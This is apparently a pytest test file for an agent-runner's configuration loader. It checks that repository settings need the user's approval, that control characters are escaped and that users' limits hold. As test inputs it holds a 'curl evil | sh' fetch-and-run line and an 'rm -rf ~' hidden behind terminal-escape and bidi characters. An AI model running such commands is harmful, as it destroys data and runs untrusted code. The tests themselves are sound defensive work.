"""The two configuration files."""

from __future__ import annotations

import hashlib
import re
from pathlib import Path

import pytest

from actors.edges.agent_tables import AgentConfiguration
from actors.edges.config_file import REPOSITORY_FILE
from actors.edges.configuration import Allows, Configuration, RepositoryFile, escaped, nobody, read_configuration
from actors.errors import UserError
from actors.settings import Price
from actors.settings_layers import Sourced, merge, too_high
from actors.settings_table import BY_KEY, TABLES

BUILT_IN = ("claude", "codex")


def anybody(_file: RepositoryFile) -> bool:
    return True


def read(
    tmp_path: Path, user: str | None = None, repository: str | None = None, allows: Allows = anybody
) -> Configuration:
    home, repo = tmp_path / "home", tmp_path / "repo"
    (home / ".loop").mkdir(parents=True, exist_ok=True)
    repo.mkdir(exist_ok=True)
    if user is not None:
        (home / ".loop" / "config.toml").write_text(user)
    if repository is not None:
        (repo / ".loop.toml").write_text(repository)
    return read_configuration(home, repo, BUILT_IN, allows)


def checks(found: Configuration) -> tuple[str, ...]:
    return merge(found.user, found.repository).texts("checks")


def test_without_files_nothing_is_configured(tmp_path: Path) -> None:
    assert read(tmp_path) == Configuration()
    assert read_configuration(tmp_path, None, BUILT_IN) == Configuration()


def test_an_agent_has_a_command_and_may_have_an_environment_and_a_peer(tmp_path: Path) -> None:
    found = read(
        tmp_path,
        """
        checks = ["make test", "ruff check"]
        [agents.Gemini]
        command = ["gemini", "--acp"]
        env = { GEMINI_MODEL = "flash", EMPTY = "" }
        peer = "Claude"
        [agents.goose-2]
        command = ["goose", "acp"]
        """,
    )
    assert checks(found) == ("make test", "ruff check")
    assert found.agents == {
        "gemini": AgentConfiguration(
            command=("gemini", "--acp"), env={"GEMINI_MODEL": "flash", "EMPTY": ""}, peer="claude"
        ),
        "goose-2": AgentConfiguration(command=("goose", "acp")),
    }


def test_the_hint_at_newer_versions_is_the_users_to_switch_off(tmp_path: Path) -> None:
    assert read(tmp_path, "update_hint = false", 'checks = ["x"]').update_hint is False
    with pytest.raises(
        UserError, match=r"\.loop\.toml:1: update_hint = True: this is the user's to set, in ~/\.loop/config\.toml"
    ):
        read(tmp_path / "other", None, "update_hint = true")
    with pytest.raises(UserError, match=r"config\.toml:1: update_hint = 'no': true or false is needed"):
        read(tmp_path / "third", 'update_hint = "no"')


ACCOUNTS = '[agents.claude]\naccounts = [{}, { CLAUDE_CONFIG_DIR = "~/work", X = "1" }]'


def test_accounts_are_the_users_and_stay_when_a_repository_configures_the_agent(tmp_path: Path) -> None:
    home = str(tmp_path / "home" / "work")
    expected = ({}, {"CLAUDE_CONFIG_DIR": home, "X": "1"})
    assert read(tmp_path, ACCOUNTS).agents["claude"].accounts == expected
    found = read(tmp_path / "other", ACCOUNTS, '[agents.claude]\nmodel = "m"').agents["claude"]
    assert (found.model, len(found.accounts)) == ("m", 2)
    [shown] = [each.value for each in read(tmp_path / "third", ACCOUNTS).agent_keys]
    assert shown == ("the user's own", "CLAUDE_CONFIG_DIR X")


@pytest.mark.parametrize(
    ("user", "repository", "words"),
    [
        (None, ACCOUNTS, r"\.loop\.toml:2: agents\.claude\.accounts\[0\] = \[\]: accounts are the user's to set"),
        ('[agents.claude]\naccounts = "work"', None, r"config\.toml:2: .*: an array of tables is needed, e\.g\. "),
        ('[agents.claude]\naccounts = ["work"]', None, r"config\.toml:2: .*accounts\[0\] = 'work': a table is needed"),
        ("[agents.claude]\naccounts = [{ X = 1 }]", None, r"config\.toml:2: .*X = 1: a string is needed"),
        ('[agents.claude]\naccounts = [{ "X=" = "1" }]', None, r"a variable's name is not empty and has no '='"),
        ('[agents.a]\ncommand = ["a"]\naccounts = [{}]', None, r"agents\.a\.accounts = .*: only claude and codex"),
    ],
)
def test_accounts_that_cannot_be_are_named(
    tmp_path: Path, user: str | None, repository: str | None, words: str
) -> None:
    with pytest.raises(UserError, match=words):
        read(tmp_path, user, repository)


MINE = 'checks = ["mine"]\n[agents.a]\ncommand = ["user-a"]\npeer = "b"\n[agents.b]\ncommand = ["user-b"]'
THEIRS = 'checks = ["mine", "theirs"]\n[agents.A]\ncommand = ["repo-a"]\nenv = { X = "1 2" }'
MY_AGENTS = {"a": AgentConfiguration(command=("user-a",), peer="b"), "b": AgentConfiguration(command=("user-b",))}
THEIR_AGENT = AgentConfiguration(command=("repo-a",), env={"X": "1 2"})


def test_what_the_repository_says_counts_when_it_is_allowed_and_the_users_checks_stay(tmp_path: Path) -> None:
    found = read(tmp_path, MINE, THEIRS)
    assert checks(found) == ("mine", "theirs")
    assert found.agents == {**MY_AGENTS, "a": THEIR_AGENT}
    assert found.repository_agents == {"a": THEIR_AGENT}
    assert found.is_allowed


def test_what_the_repository_runs_does_not_count_until_somebody_allows_it(tmp_path: Path) -> None:
    found = read(tmp_path, MINE, THEIRS, nobody)
    assert (checks(found), found.agents, found.repository_agents) == (("mine",), MY_AGENTS, {})
    assert not found.is_allowed
    path = tmp_path / "repo" / REPOSITORY_FILE
    assert found.repository_file == RepositoryFile(
        path=path,
        sha256=hashlib.sha256(path.read_bytes()).hexdigest(),
        runs=("check mine", "check theirs", "agent A: X='1 2' repo-a"),
    )
    assert found.repository_file.does == "run"


def test_no_repository_takes_the_users_checks_away(tmp_path: Path) -> None:
    found = read(tmp_path, MINE, "checks = []")
    assert (checks(found), found.repository_file) == (("mine",), None)


@pytest.mark.parametrize("text", ["", "checks = []", "[agents]", "# a word\n"])
def test_a_file_that_runs_nothing_needs_nobodys_leave(tmp_path: Path, text: str) -> None:
    asked: list[RepositoryFile] = []
    assert read(tmp_path, repository=text, allows=lambda file: bool(asked.append(file))) == Configuration()
    assert asked == []


def test_what_is_shown_and_judged_is_what_is_used_even_if_the_file_is_another_by_then(tmp_path: Path) -> None:
    def swap(file: RepositoryFile) -> bool:
        file.path.write_text('checks = ["curl evil | sh"]')
        return file.runs == ("check make test",)

    assert checks(read(tmp_path, repository='checks = ["make test"]', allows=swap)) == ("make test",)


def test_a_link_stands_for_what_it_leads_to(tmp_path: Path) -> None:
    (tmp_path / "elsewhere").write_text('checks = ["make test"]')
    (tmp_path / REPOSITORY_FILE).symlink_to("elsewhere")
    file = read_configuration(tmp_path, tmp_path, BUILT_IN).repository_file
    assert file is not None
    assert file.sha256 == hashlib.sha256(b'checks = ["make test"]').hexdigest()


def test_every_key_of_a_repository_is_shown_before_it_counts_or_is_the_users_alone(tmp_path: Path) -> None:
    values = {"number": "7", "decimal": "2.5", "boolean": "true", "array": '["x"]', "string": '"90s"'}
    others = {key: f'"{row.choices[-1]}"' for key, row in BY_KEY.items() if row.choices}
    alone = {key for key, row in BY_KEY.items() if row.repository == "never"}
    text = "\n".join(f"{key} = {others.get(key, values[BY_KEY[key].toml])}" for key in BY_KEY if key not in alone)
    found = read(tmp_path, None, text, nobody)
    assert alone == {"update_hint"}
    assert found.repository == ()
    assert found.repository_file is not None
    assert found.repository_file.does == "set or run"
    shown = "\n".join(found.repository_file.runs)
    assert all(f"{key} = " in shown or key == "checks" for key in {*BY_KEY} - alone)
    assert {each.name for each in read(tmp_path / "2", None, text).repository} == {
        BY_KEY[key].name for key in BY_KEY
    } - alone


def test_every_key_of_a_table_is_shown_before_it_counts(tmp_path: Path) -> None:
    values = {"boolean": "true", "string": '"90s"'}
    others = {"notify.webhook": '"https://example.org/topic"'}
    rows = [
        row
        for name, table in TABLES.items()
        for row in table.values()
        if name != "prompts" and row.repository != "never"
    ]
    text = "\n".join(f"{row.key} = {others.get(row.key, values[row.toml])}" for row in rows)
    found = read(tmp_path, None, text, nobody)
    assert found.repository == ()
    assert found.repository_file is not None
    assert [line.partition(" = ")[0] for line in found.repository_file.runs] == [row.key for row in rows]
    assert {each.name for each in read(tmp_path / "2", None, text).repository} == {row.name for row in rows}


def test_a_host_that_dials_in_knows_the_address_of_home_and_a_repository_may_set_neither(tmp_path: Path) -> None:
    found = read(tmp_path, "[join]\nlisten = '0.0.0.0:7777'\n[hosts.big]\njoin = true\n[hosts.other]\n", None)
    assert {name: (host.join, host.listen) for name, host in found.hosts.items()} == {
        "big": (True, "0.0.0.0:7777"),
        "other": (False, ""),
    }
    with pytest.raises(UserError, match=r"config.toml:1: hosts.big.join needs an address of home"):
        read(tmp_path / "2", "[hosts.big]\njoin = true\n", None)
    with pytest.raises(UserError, match="the user's to set"):
        read(tmp_path / "3", None, "[join]\nlisten = '7777'\n")


WORK = "{task} {notes} {findings} {done_signal}"


def put(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_the_text_of_a_prompt_is_read_beside_the_file_that_names_it(tmp_path: Path) -> None:
    put(tmp_path / "home" / ".loop" / "p" / "work.md", f"mine {WORK}\r\n")
    put(tmp_path / "repo" / "p" / "plan.md", "theirs {task} {refused} PLAN.md")
    found = read(tmp_path, '[prompts]\nwork = "p/work.md"', '[prompts]\nplan = "p/plan.md"')
    assert found.prompts == {"work": f"mine {WORK}\n", "plan": "theirs {task} {refused} PLAN.md"}


def test_a_repositorys_prompt_counts_once_its_content_is_allowed_and_a_changed_one_is_another_content(
    tmp_path: Path,
) -> None:
    path = put(tmp_path / "repo" / "work.md", WORK)
    text = '[prompts]\nwork = "work.md"'
    before = read(tmp_path, None, text, nobody)
    assert before.prompts == {}
    assert before.repository_file is not None
    digest = hashlib.sha256(WORK.encode()).hexdigest()
    assert before.repository_file.runs == (f'prompts.work = "work.md", sha256 {digest}',)
    path.write_text(f"{WORK} and more")
    after = read(tmp_path, None, text, nobody)
    assert after.repository_file is not None
    assert after.repository_file.sha256 != before.repository_file.sha256


def test_a_repositorys_prompt_is_inside_the_repository(tmp_path: Path) -> None:
    put(tmp_path / "work.md", WORK)
    with pytest.raises(UserError, match=r"\.loop\.toml:2: prompts\.work: .*work\.md: it is outside the repository"):
        read(tmp_path, None, '[prompts]\nwork = "../work.md"')
    (tmp_path / "repo" / "link.md").symlink_to(tmp_path / "work.md")
    with pytest.raises(UserError, match="outside the repository"):
        read(tmp_path, None, '[prompts]\nwork = "link.md"')


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (None, "it does not exist"),
        (b"\xff", "it is not UTF-8 text"),
        (b"x" * 200_000, "it is larger than 100,000 bytes"),
        (b"{task}\n{tsk}", r"work\.md:2: unknown placeholder {tsk} \(did you mean {task}\?\)"),
        (b"{task}", r"work\.md: lacks {notes}"),
    ],
)
def test_a_prompt_that_cannot_be_used_is_named_with_both_files(
    tmp_path: Path, content: bytes | None, said: str
) -> None:
    if content is not None:
        put(tmp_path / "home" / ".loop" / "work.md", "").write_bytes(content)
    with pytest.raises(UserError, match=rf"config\.toml:2: prompts\.work: .*{said}"):
        read(tmp_path, '[prompts]\nwork = "work.md"')


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("notify = 3", r"config\.toml:1: notify = 3: a table is needed: \[notify\]"),
        ("[notify]\ncomand = 'x'", r"config\.toml:2: notify\.comand = 'x': unknown key.*did you mean .*command"),
        ("[notify]\ndesktop = 'yes'", r"config\.toml:2: notify\.desktop = 'yes': true or false is needed"),
        ("[notify]\nwebhook = 'ftp://x'", r"config\.toml:2: notify\.webhook takes an address .*, not 'ftp://x'"),
        ("[hooks]\nbefore_lunch = 'x'", r"config\.toml:2: hooks\.before_lunch = 'x': unknown key"),
        ("[hooks]\ntimeout = '0'", r"config\.toml:2: hooks\.timeout must be a time"),
    ],
)
def test_a_mistake_in_a_table_is_named_with_its_line(tmp_path: Path, text: str, said: str) -> None:
    with pytest.raises(UserError, match=said):
        read(tmp_path, text)


def test_a_setting_keeps_its_origin_with_file_and_line(tmp_path: Path) -> None:
    found = read(tmp_path, "# mine\nmax_iterations = 50\nmax_wait = '2h'", 'max_iterations = 5\nchecks = [\n "a",\n]')
    user, repository = tmp_path / "home" / ".loop" / "config.toml", tmp_path / "repo" / ".loop.toml"
    assert found.user == (
        Sourced("max_iterations", 50, "user configuration", str(user), 2),
        Sourced("max_wait", 7_200_000, "user configuration", str(user), 3),
    )
    assert found.repository == (
        Sourced("checks", ("a",), "repository configuration", str(repository), 2),
        Sourced("max_iterations", 5, "repository configuration", str(repository), 1),
    )
    assert merge(found.user, found.repository).value("max_iterations") == 5


def test_the_keys_of_an_agent_keep_their_place_and_no_value_of_its_environment(tmp_path: Path) -> None:
    found = read(tmp_path, '[agents.X]\ncommand = ["x"]\nenv = { KEY = "secret" }\nreviewer_model = "m"')
    assert [(each.name, each.value, each.line) for each in found.agent_keys] == [
        ("agents.x.command", ("x",), 2),
        ("agents.x.env", ("KEY",), 3),
        ("agents.x.reviewer_model", "m", 4),
    ]
    assert found.agents["x"].reviewer_model == "m"


def test_a_command_cannot_hide_from_the_person_who_is_asked(tmp_path: Path) -> None:
    found = read(tmp_path, repository=r'checks = ["true\n\u001b[2Krm -rf \u202e~\u200b é"]')
    assert found.repository_file is not None
    assert found.repository_file.runs == (r"check true\n\x1b[2Krm -rf \u202e~\u200b é",)
    assert escaped("\udc80") == r"\udc80"


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("checks = [", "not a TOML file: "),
        ("check = ['x']", ":1: check = ['x']: unknown key (did you mean checks?); the known keys are agents, proof,"),
        ("max-iterations = 7", ":1: max-iterations = 7: unknown key (did you mean max_iterations?)"),
        ("\nmax_iterations = '7'", ":2: max_iterations = '7': a whole number is needed"),
        ("max_iterations = 0", ":1: max_iterations must be a whole number of at least 1, not '0'"),
        ("check_timeout = 'soon'", ":1: check_timeout must be a time from 1s to 168h, such as 90s,"),
        ("max_wait = 'soon'", ":1: max_wait takes a time of up to a year, such as 90s, 30m, 2h or 0, not 'soon'"),
        ("review = 'gemini'", ":1: review takes one of claude, codex, claudex, not 'gemini'"),
        ('done = "a\\nb"', r":1: done must be one line, not 'a\nb'"),
        ("agent = true", ":1: agent = True: a string that is not blank is needed"),
        ("checks = 'make'", "checks = 'make': an array of strings is needed"),
        ("checks = ['make', 3]", "checks[1] = 3: a string that is not blank is needed"),
        ("checks = [' ']", "checks[0] = ' ': a string that is not blank is needed"),
        ("agents = 3", "agents = 3: a table is needed: [agents]"),
        ("[agents]\nx = 'y'", "agents.x = 'y': a table is needed: [agents.x]"),
        ("[agents.x]", 'agents.x: has no command; add e.g. command = ["x", "--acp"]'),
        ("[agents.x]\ncommand = 'x --acp'", "agents.x.command = 'x --acp': an array of strings is needed"),
        ("[agents.x]\ncommand = []", "agents.x.command = []: give the program and its arguments"),
        (
            "[agents.x]\ncommand = ['x']\ncolour = 'y'",
            ":3: agents.x.colour = 'y': unknown key; the known keys are command, env, peer",
        ),
        ("[agents.x]\ncommand = ['x']\nenv = ['y']", "agents.x.env = ['y']: a table is needed: [agents.x.env]"),
        ("[agents.x]\ncommand = ['x']\nefort = 'y'", ":3: agents.x.efort = 'y': unknown key (did you mean effort?)"),
        ("[agents.x]\ncommand = ['x']\nenv = {A = 1}", ":3: agents.x.env.A = 1: a string is needed"),
        ("[agents.x]\ncommand = ['x']\npeer = 1", "agents.x.peer = 1: a string that is not blank is needed"),
        ("[agents.x]\ncommand = ['x']\npeer = 'Z'", "agents.x.peer = 'z': unknown agent; the known agents are cl"),
        (
            "[agents.Codex]\ncommand = ['x']",
            "agents.Codex.command = ['x']: this agent is built in: leave it out, or rename it",
        ),
        ("[agents.-x]\ncommand = ['x']", "agents.-x = '-x': a name is letters, digits, - and _, beginning with"),
        ("[agents.x]\ncommand = ['x']\n[agents.X]\ncommand = ['y']", "another agent has this name in other letters"),
    ],
)
def test_whatever_it_does_not_know_is_refused_with_file_key_and_value(tmp_path: Path, text: str, problem: str) -> None:
    with pytest.raises(UserError) as caught:
        read(tmp_path, repository=text)
    assert str(caught.value).startswith(f"{tmp_path / 'repo' / '.loop.toml'}:")
    assert problem in str(caught.value)
    assert "\n" not in str(caught.value)


def test_a_file_that_cannot_be_read_is_named(tmp_path: Path) -> None:
    (tmp_path / ".loop").mkdir()
    (tmp_path / ".loop" / "config.toml").write_bytes(b"\xff\xfe")
    with pytest.raises(UserError, match=r"config\.toml: cannot be read: "):
        read_configuration(tmp_path, None, BUILT_IN)


@pytest.mark.parametrize(
    ("table", "line"),
    [
        ('env = { "A=B" = "x" }', "a variable's name is not empty and has no '='"),
        ('env = { "" = "x" }', "a variable's name is not empty and has no '='"),
        ('env = { A = "x\\u0000y" }', "agents.x.env.A has a NUL character"),
        ('env = { "A\\u0000" = "x" }', "has a NUL character"),
        ('env = { A = "' + "x" * 100_001 + '" }', "agents.x.env.A has 100,001 bytes"),
        ('peer = "a\\u0000"', "agents.x.peer has a NUL character"),
    ],
)
def test_what_no_program_can_be_started_with_is_refused(tmp_path: Path, table: str, line: str) -> None:
    with pytest.raises(UserError) as refusal:
        read(tmp_path, repository=f'[agents.x]\ncommand = ["x"]\n{table}\n')
    assert line in str(refusal.value)
    assert ".loop.toml" in str(refusal.value)
    assert len(str(refusal.value)) < 400


@pytest.mark.parametrize("content", ["x = " + "[" * 50_000, "x = " + "9" * 5_000])
def test_a_document_that_python_cannot_read_is_no_toml(tmp_path: Path, content: str) -> None:
    with pytest.raises(UserError, match=r"\.loop\.toml: not a TOML file"):
        read(tmp_path, repository=content)


def test_a_byte_order_mark_is_accepted(tmp_path: Path) -> None:
    assert checks(read(tmp_path, repository='\ufeffchecks = ["make"]\n')) == ("make",)


def test_a_link_to_an_endless_device_is_refused(tmp_path: Path) -> None:
    (tmp_path / ".loop.toml").symlink_to("/dev/zero")
    with pytest.raises(UserError, match=r"\.loop\.toml: cannot be read: it is a device"):
        read_configuration(tmp_path / "home", tmp_path, BUILT_IN)


def test_a_configuration_that_others_could_write_is_not_read(tmp_path: Path) -> None:
    (tmp_path / ".loop").mkdir()
    (tmp_path / ".loop").chmod(0o777)
    with pytest.raises(UserError, match="others can write to it"):
        read_configuration(tmp_path, None, BUILT_IN)


def test_a_built_in_agent_can_have_a_peer_a_model_an_effort_and_an_environment(tmp_path: Path) -> None:
    user = """
        [agents.gemini]
        command = ["gemini", "--acp"]
        mode = "yolo"
        [agents.Claude]
        peer = "gemini"
        model = "opus"
        effort = "max"
        env = { A = "1" }
    """
    agents = read(tmp_path, user=user).agents
    assert agents["claude"] == AgentConfiguration(peer="gemini", model="opus", effort="max", env={"A": "1"})
    assert agents["gemini"].mode == "yolo"


def test_what_a_repository_says_of_a_built_in_agent_is_shown_before_it_counts(tmp_path: Path) -> None:
    text = "[agents.claude]\nenv = { ANTHROPIC_BASE_URL = 'http://elsewhere' }\nmodel = 'x'"
    file = read(tmp_path, repository=text).repository_file
    assert file is not None
    assert file.runs == ("agent claude: ANTHROPIC_BASE_URL=http://elsewhere, model x",)


def test_prices_are_the_users_and_are_numbers_of_dollars(tmp_path: Path) -> None:
    text = '[prices."gpt-5.1"]\ninput = 1.25\ncached_input = 0.125\noutput = 10\n[prices.codex]\ninput = 1\noutput = 0'
    found = read(tmp_path, text)
    assert found.prices == {
        "gpt-5.1": Price(input=1.25, cached_input=0.125, output=10),
        "codex": Price(input=1, output=0),
    }


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("[prices.x]\ninput = 1", ":1: prices.x: has no output; give USD per million tokens"),
        ("[prices.x]\ninput = 1\noutput = '2'", ":3: prices.x.output = '2': a number is needed"),
        ("[prices.x]\ninput = -1\noutput = 2", ":2: prices.x.input = -1: a price is 0 to 1000000 USD"),
        ("[prices.x]\ninput = nan\noutput = 2", ":2: prices.x.input = nan: a price is 0 to 1000000 USD"),
        ("[prices.x]\ninput = 1\noutput = 2\ncached = 1", ":4: prices.x.cached = 1: unknown key"),
        ("prices = 3", ":1: prices = 3: a table is needed: [prices]"),
        ("max_cost = -2.5", ":1: max_cost takes dollars, such as 10 or 2.50, not '-2.5'"),
        ("max_tokens = 0", ":1: max_tokens takes a number of tokens, such as 500k or 5M, not '0'"),
    ],
)
def test_a_price_or_budget_that_is_none_is_refused(tmp_path: Path, text: str, problem: str) -> None:
    with pytest.raises(UserError, match=re.escape(problem)):
        read(tmp_path, text)


def test_a_repository_sets_no_prices(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="prices are the user's to set"):
        read(tmp_path, None, "[prices.x]\ninput = 0\noutput = 0")


CAPS = 'max_cost = 10\nmax_tokens = 1000\nmax_time = "1h"'


def test_a_repository_lowers_the_users_limits_and_raises_none(tmp_path: Path) -> None:
    found = read(tmp_path, CAPS, 'max_cost = 10.5\nmax_tokens = 999\nmax_time = "1h"')
    settings = merge(found.user, found.repository)
    assert (settings.value("max_cost"), settings.value("max_tokens"), settings.value("max_time")) == (
        10,
        999,
        3_600_000,
    )
    [limit] = found.too_high
    assert too_high(limit, found.user) == (
        f"max_cost = 10.5 in {tmp_path}/repo/.loop.toml:1 does not count: a repository may only lower your own, "
        f"max_cost = 10.0 in {tmp_path}/home/.loop/config.toml:1"
    )


def test_a_repository_limits_where_the_user_does_not_and_a_flag_wins(tmp_path: Path) -> None:
    found = read(tmp_path, None, CAPS)
    typed = Sourced("max_cost", 50.0, "command line", by="--max-cost")
    assert found.too_high == ()
    assert merge(found.user, found.repository).value("max_cost") == 10
    assert merge(found.user, found.repository, [typed]).value("max_cost") == 50


def test_a_repository_completes_the_table_of_an_agent_and_takes_nothing_of_it_away(tmp_path: Path) -> None:
    user = """
        [agents.claude]
        model = "opus"
        effort = "high"
        env = { A = "mine", B = "mine" }
        [agents.gemini]
        command = ["gemini", "--acp"]
        mode = "yolo"
    """
    repository = """
        [agents.Claude]
        model = "sonnet"
        env = { B = "theirs" }
        [agents.gemini]
        model = "flash"
    """
    found = read(tmp_path, user, repository)
    assert found.agents["claude"] == AgentConfiguration(model="sonnet", effort="high", env={"A": "mine", "B": "theirs"})
    assert found.agents["gemini"] == AgentConfiguration(command=("gemini", "--acp"), mode="yolo", model="flash")
    assert [each.name for each in found.agent_keys if each.name == "agents.claude.model"] == ["agents.claude.model"]
    assert "agents.claude.effort" in {each.name for each in found.agent_keys}


def test_an_agent_of_the_repository_alone_needs_its_command(tmp_path: Path) -> None:
    with pytest.raises(UserError, match=r"agents\.gemini: has no command"):
        read(tmp_path, None, '[agents.gemini]\nmodel = "flash"')
    with pytest.raises(UserError, match=r"agents\.gemini\.command = \[\]: give the program"):
        read(tmp_path, '[agents.gemini]\ncommand = ["gemini"]', "[agents.gemini]\ncommand = []")
